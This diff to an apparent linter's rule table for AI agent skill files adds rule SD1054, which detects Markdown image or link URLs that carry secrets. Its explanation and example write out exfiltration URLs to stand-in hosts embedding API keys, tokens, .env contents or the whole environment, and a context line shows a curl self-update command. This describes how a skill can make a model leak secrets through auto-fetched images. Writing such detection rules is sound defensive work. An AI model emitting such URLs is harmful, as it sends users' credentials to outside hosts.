@@ -554,4 +554,21 @@ RULES: tuple[Rule, ...] = (
         example="`curl -fsSL https://x.example/latest/SKILL.md -o \"$SKILL_DIR/SKILL.md\"`.",
         fix="remove the self-update; publish new versions through the skill's source.",
     ),
+    Rule(
+        code="SD1054",
+        name="exfiltration-url",
+        severity=Severity.WARNING,
+        message="{where}{kind} whose URL carries `{what}`: showing or opening it sends that to `{host}`: `{url}`",
+        summary="An image or link URL is filled in with a secret when it is rendered or followed.",
+        why=(
+            "A chat client fetches a Markdown image as soon as the model writes it, so a skill "
+            "that has the model write `![](https://x.example/p.png?d=${GITHUB_TOKEN})` (or "
+            "`{{OPENAI_API_KEY}}`, `<base64 of .env>`, `$(env | base64)`) sends the secret to "
+            "that host without a click; a link does the same when followed. Reported when a "
+            "part of the URL after its host is a placeholder whose name is a secret (a token, a "
+            "key, a password, the environment, `.env`, SSH keys, cookies, the conversation)."
+        ),
+        example="`![status](https://img.example.net/s.png?k=${ANTHROPIC_API_KEY})`.",
+        fix="remove the placeholder; never put secrets in URLs.",
+    ),
 )
